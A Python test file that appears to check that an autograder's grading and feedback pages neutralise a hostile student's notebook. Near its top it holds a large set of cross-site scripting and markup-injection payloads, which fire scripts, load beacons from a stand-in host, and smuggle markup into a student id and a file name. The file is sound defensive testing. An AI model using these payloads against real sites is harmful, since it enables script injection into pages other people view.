"""What a hostile learner hands in neither runs nor calls out where a teacher looks.

In nbgrader's formgrader, in the stock feedback and in ours, in a real browser.
"""

import base64
import urllib.parse

import nbformat
import pytest
from jinja2 import Environment
from nbformat.v4 import new_notebook, new_output
from test_attacks import NAME, RIGHT, answered, hand_in, new_class
from test_formgrader import browser_page, jupyter_server

from autograder.cleaning import CleanOutputs, clean, markdown2html
from autograder.feedback import write_feedback
from autograder.grade import grade_one
from autograder.results import ResultStore

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

BAIT = "http://bait.test"  # whoever runs or is loaded asks for something there
RUN = f"new Image().src='{BAIT}/ran'"
SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script>'
    f'<image href="{BAIT}/svg"/><foreignObject><img xmlns="http://www.w3.org/1999/xhtml"'
    f' src="{BAIT}/foreign"/></foreignObject></svg>'
)
MARKUP = f"""
<script>{RUN}</script> <script src="{BAIT}/script"></script>
<img src=x onerror="{RUN}"> <IMG SRC=x OnErRoR="{RUN}"> <img src="{BAIT}/img">
<img srcset="{BAIT}/srcset 1x"> <img src="//bait.test/scheme"> <img src="/logout">
{SVG} <svg/onload="{RUN}"> <math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=x onerror={RUN}&gt;"></table></mtext></math>
<iframe src="{BAIT}/frame"></iframe> <iframe srcdoc="<script>{RUN}</script>"></iframe>
<meta http-equiv="refresh" content="0;url={BAIT}/refresh"> <base href="{BAIT}/">
<link rel="stylesheet" href="{BAIT}/css"> <style>@import url({BAIT}/import);
.score {{ background: url({BAIT}/style) }} body {{ display: none }}</style>
<div style="position:fixed;inset:0;z-index:9999;background:url({BAIT}/cover)">a</div>
<div class="modal fade in" style="display:block" id="why">b</div>
<nav class="navbar-fixed-top" id="test-double">c</nav> <div id="statusmessage">d</div>
<form action="{BAIT}/form"><button formaction="{BAIT}/b">e</button>
<input id="why-comment" class="comment" autofocus onfocus="{RUN}"></form>
<object data="{BAIT}/object"></object> <embed src="{BAIT}/embed">
<video src="{BAIT}/video" poster="{BAIT}/poster" autoplay></video>
<details open ontoggle="{RUN}">f</details> <body onload="{RUN}">
<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>
<a href="javascript:{RUN}">g</a> <a href=" java&#10;script:{RUN}">h</a>
<a href="data:text/html,<script>{RUN}</script>">i</a> <a href="evil.svg">j</a>
<p>the honest words</p>
"""
PIXEL = base64.b64encode(b"GIF89a").decode()
WRITTEN = f"""# why

![pasted](attachment:pasted.png)

[k](javascript:{RUN}) ![l]({BAIT}/markdown) ![m](javascript:{RUN}) <javascript:{RUN}>
[n]: javascript:{RUN} "title"
[n] `<img src=x onerror={RUN}>` $a<img src=x onerror="{RUN}">$ **honest** a < b

```mermaid
graph LR; A["<img src=x onerror={RUN}>"]
```

```python
x = "<script>{RUN}</script>"
```
{MARKUP}
"""
DISPLAYS = [
    {"text/html": MARKUP},
    {"text/markdown": WRITTEN},
    {"image/svg+xml": SVG},
    {"application/javascript": RUN, "text/plain": "p"},
    {"text/latex": f"$x$<img src=x onerror={RUN}>\\href{{javascript:{RUN}}}{{q}}"},
    {"text/vnd.mermaid": MARKUP, "application/pdf": "x", "x/y": MARKUP},
    {"text/plain": MARKUP},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "</script>" + MARKUP}},
]
WIDTH = {"image/png": {"width": f"1 onerror={RUN}", "height": 9, "alt": MARKUP}}
OUTSIDE = {"filenames": {"image/png": f"{BAIT}/file"}, "text/html": {"isolated": True}}
HOSTILE = f"""from IPython.display import display
for bundle in {DISPLAYS!r}:
    display(bundle, raw=True)
for about in ({WIDTH!r}, {OUTSIDE!r}):
    display({{"image/png": "AAAA", "text/html": {MARKUP!r}}}, metadata=about, raw=True)
    display({{"image/png": "AAAA"}}, metadata=about, raw=True)
print("\\x1b[31m" + {MARKUP!r} + "\\x1b]0;title\\x07\\x1b[38;2;1;2;9<b>m")
def square(x):
    raise ValueError("\\x1b[1m" + {MARKUP!r})
"""
SEEN = """() => {
  const own = [...document.querySelectorAll('.rendered_html *, .output *, pre *')];
  const names = [...document.querySelectorAll('[id]')].map(one => one.id);
  return {
    covers: own.filter(one => ['fixed', 'absolute', 'sticky'].includes(
      getComputedStyle(one).position)).map(one => one.outerHTML.slice(0, 200)),
    twice: names.filter((name, place) => names.indexOf(name) !== place),
    active: own.filter(one => one.closest(
      'script, iframe, object, embed, form, input, style, link, meta, base')).length,
    pictures: own.map(one => one.getAttribute('src')).filter(Boolean),
    links: own.map(one => one.getAttribute('href')).filter(Boolean),
    text: document.body.innerText,
  };
}"""


@pytest.fixture(scope="module")
def seen(tmp_path_factory, bare_environment, browser):
    """Look at all pages as a teacher does; give what they asked for and hold."""
    room = hostile_class(tmp_path_factory.mktemp("hostile"))
    log = tmp_path_factory.mktemp("formgrader") / "server.log"
    with room.gradebook() as gradebook:
        found = gradebook.find_submission_notebook("hw1", NAME, "eve").id
    asked, told = [], {}
    with (
        jupyter_server(room.root, bare_environment, log) as (url, token),
        browser_page(browser) as page,
    ):
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: asked.append("a dialog"))
        page.goto(f"{url}/formgrader/?token={token}", wait_until="domcontentloaded")
        for place in (f"manage_submissions/{NAME}", "manage_students"):
            page.goto(f"{url}/formgrader/{place}")
            page.wait_for_function("models?.loaded")
            told[place] = page.evaluate(SEEN)
        page.goto(f"{url}/formgrader/submissions/{found}/")
        page.wait_for_function("window.formgrader && formgrader.comments?.loaded")
        told["formgrader"] = page.evaluate(SEEN)
        page.locator("#test-square").fill("1", timeout=5000)  # nothing lies over it
        page.locator(".full-credit").first.click(timeout=5000)
        for name, write in (("stock feedback", stock), ("feedback", write_feedback)):
            pages = [file for file in write(room, NAME) if "eve" in file.parts]
            page.goto(pages[0].as_uri())
            told[name] = page.evaluate(SEEN)
    return room, asked, told


def hostile_class(folder):
    """Make and grade a class with one hostile learner, and one with a hostile name."""
    room, released = new_class(folder)
    notebook = answered(released, RIGHT | {"square": HOSTILE, "why": WRITTEN})
    pasted = {"pasted.png": {"image/png": PIXEL, "text/html": MARKUP}}
    notebook.cells[-1].attachments = pasted
    for student in ("eve", f'"><img src=x onerror={RUN.replace("/", "&#47;")}>'):
        place = hand_in(room, student, notebook)
        (place / "evil.svg").write_text(SVG)
        (place / "<img src=x onerror=alert(1)>\x1b[2J.txt").write_text("x")
        grade_one(room.root, NAME, student)
    return room


def stock(room, name):
    told = room.api().generate_feedback(name, "eve")
    assert told["success"], told["log"]
    return [room.root / "feedback" / "eve" / name / "hw1.html"]


@pytest.mark.case(
    "markup",
    "scripts, SVG, links, frames, styles, ANSI codes",
    "nothing runs or calls out",
)
def test_nothing_runs_and_nothing_is_asked_for(seen):
    _, asked, _ = seen
    hosts = {urllib.parse.urlparse(address).hostname for address in asked}
    mathjax = "cdnjs.cloudflare.com"  # nbgrader's own, for formulas
    assert hosts - {"127.0.0.1", None, mathjax} == set()
    assert not [address for address in asked if address == "a dialog"]
    assert not [address for address in asked if address.endswith("/logout")]


PAGES = ["formgrader", "stock feedback", "feedback"]


@pytest.mark.parametrize("page", PAGES)
def test_nothing_covers_the_page_or_takes_its_names(seen, page):
    told = seen[2][page]
    assert told["covers"] == []
    assert set(told["twice"]) <= {"notebook", "notebook-container"}  # nbconvert's own
    assert told["active"] == 0
    assert told["links"] == []


@pytest.mark.parametrize("page", PAGES)
def test_honest_words_are_still_there(seen, page):
    assert "the honest words" in seen[2][page]["text"]


def test_a_pasted_picture_is_shown(seen):
    pictures = seen[2]["formgrader"]["pictures"]
    assert f"data:image/png;base64,{PIXEL}" in pictures


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("[a source](https://a.b/?c=1&d)", "a source (https://a.b/?c=1&amp;d)"),
        ("see https://a.b/c", "see https://a.b/c"),
        ("$a < b$ and `x < y`", "$a &lt; b$ and <code>x &lt; y</code>"),
    ],
)
def test_markdown_is_readable(written, shown):
    context = Environment().from_string("").new_context({"cell": {}})
    assert markdown2html(context, written).replace("<a>", "").replace("</a>", "") == (
        f"<p>{shown}</p>\n"
    )


def test_markdown_that_cannot_be_read_is_shown_as_it_is_written():
    context = Environment().from_string("").new_context({"cell": {}})
    shown = markdown2html(context, "![x](attachment:gone.png) <script>")
    assert shown == "<pre>![x](attachment:gone.png) &lt;script&gt;</pre>"


@pytest.mark.case("markup-name", "a student's id that is markup", "refused, told why")
def test_a_name_that_is_markup_is_refused_with_a_reason(seen):
    room, _, _ = seen
    results = {r.student: r for r in ResultStore(room.root, NAME).all()}
    bad = next(result for name, result in results.items() if name != "eve")
    assert bad.status == "failed" and "the student's id holds" in bad.why


def test_the_autograded_notebook_holds_nothing_active(seen):
    room, _, _ = seen
    path = room.root / "autograded" / "eve" / NAME / "hw1.ipynb"
    kinds, markup = set(), ""
    for cell in nbformat.read(path, 4).cells:
        for output in cell.get("outputs", []):
            kinds |= set(output.get("data", {}))
            markup += output.get("data", {}).get("text/html", "")
            markup += str(output.get("metadata", ""))
    assert "the honest words" in markup
    assert "<script" not in markup and "onerror" not in markup and BAIT not in markup
    assert not [kind for kind in kinds if "script" in kind or "widget" in kind]


@pytest.mark.parametrize(
    "markup",
    [
        f'<img src="data:image/png;base64,{PIXEL}" alt="a plot" width="300">',
        '<img src="figures/plot%202.png" alt="a plot">',
        '<table><tr><th colspan="2">a</th></tr><tr><td>1</td><td>2</td></tr></table>',
        '<div class="alert alert-info">a box</div>',
        "<p>a &lt; b &amp; <em>c</em> $x_1$</p>",
    ],
)
def test_what_honest_people_write_stays(markup):
    assert clean(markup).replace("<tbody>", "").replace("</tbody>", "") == markup


def test_a_picture_keeps_its_size():
    about = {"image/png": {"width": 300, "height": 200, "needs_background": "light"}}
    output = new_output("display_data", {"image/png": PIXEL}, metadata=about)
    cell = nbformat.v4.new_code_cell(outputs=[output])
    CleanOutputs().preprocess(new_notebook(cells=[cell]), {})
    assert cell.outputs[0].metadata == {"image/png": {"width": 300, "height": 200}}
